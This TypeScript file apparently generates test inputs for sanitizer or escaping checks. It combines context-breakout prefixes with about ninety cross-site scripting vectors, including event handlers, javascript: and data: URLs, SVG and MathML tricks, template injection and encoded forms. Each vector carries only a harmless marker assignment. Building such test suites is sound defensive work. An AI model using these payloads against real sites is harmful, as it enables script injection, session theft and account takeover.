/** How text gets out of the place that it was put into: markup, attributes, comments, code, style. */
const ways = [
  '',
  '">',
  "'>",
  '>',
  '"/>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '\\"',
  "\\'",
  '*/',
  '%22%3E',
  '&quot;&gt;',
  '\u0000',
  '\ufeff',
  '\u2028',
] as const;

/** What starts script by itself, or when somebody only looks at it. `RUN` is the script. */
const starters = [
  '<script>RUN</script>',
  '<script\t>RUN</script\t>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script type=module>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror="RUN">',
  "<IMG SRC=x OnErRoR='RUN'>",
  '<img src=x\nonerror\n=\nRUN>',
  '<img srcset=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe onload=RUN></iframe>',
  '<frameset onload=RUN>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<details open ontoggle=RUN>x</details>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<button autofocus onfocus=RUN>x</button>',
  '<a autofocus tabindex=0 onfocus=RUN href=#>x</a>',
  '<div contenteditable autofocus onfocus=RUN>x</div>',
  '<xss id=x tabindex=1 onfocus=RUN autofocus>x</xss>',
  '<video src=x onerror=RUN></video>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<object data=x onerror=RUN></object>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<link rel=preload as=script href=x onload=RUN onerror=RUN>',
  '<style onload=RUN></style>',
  '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=RUN>x</xss>',
  '<marquee onstart=RUN>x</marquee>',
  '<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
  '<base href="javascript:/a/-RUN//">',
  '<form action="javascript:RUN"><input type=submit autofocus></form>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<a href="javascript:RUN">x</a>',
  '<a href="&#106;avascript:RUN">x</a>',
  '<a href="java\tscript:RUN">x</a>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<portal src="javascript:RUN">',
  '<custom-element is="x-y" onclick=RUN>x</custom-element>',
  '" onmouseover="RUN" x="',
  "' onfocus='RUN' autofocus x='",
  '" autofocus onfocus="RUN" x="',
  '" style="animation-name:x" onanimationstart="RUN" x="',
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  '\u0001javascript:RUN',
  'java\nscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=#RUN',
  'vbscript:RUN',
  '{{constructor.constructor("RUN")()}}',
  '{{$on.constructor("RUN")()}}',
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{"__proto__":{"innerHTML":"<img src=x onerror=RUN>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '{"type":"script","props":{"children":"RUN"},"$$typeof":"Symbol(react.element)"}',
  "';RUN;'",
  '";RUN;"',
  '`;RUN;`',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '%3Cscript%3ERUN%3C/script%3E',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '[x](javascript:RUN)',
  '![x](x"onerror="RUN)',
  '=HYPERLINK("javascript:RUN")',
] as const;

/** Tells one text from another, on a page that shows it and where it ran. */
export function markOf(index: number): string {
  return `ran=${firstMark + index}`;
}

const firstMark = 100_000;

/**
 * Texts that would run as script somewhere, all different: every way out of a place with every way to
 * start script, in a fixed order that mixes both. Each holds its mark, but for what is encoded.
 */
export function scriptTexts(count: number): readonly string[] {
  const texts: string[] = [];
  for (let turn = 0; texts.length < count && turn < ways.length; turn += 1) {
    for (const [index, starter] of starters.entries()) {
      const way = ways[(index + turn) % ways.length] ?? '';
      texts.push(`${way}${starter.replaceAll('RUN', `window.${markOf(texts.length)}`)}`);
    }
  }
  if (texts.length < count) throw new RangeError(`there are ${texts.length} texts only`);
  return texts.slice(0, count);
}
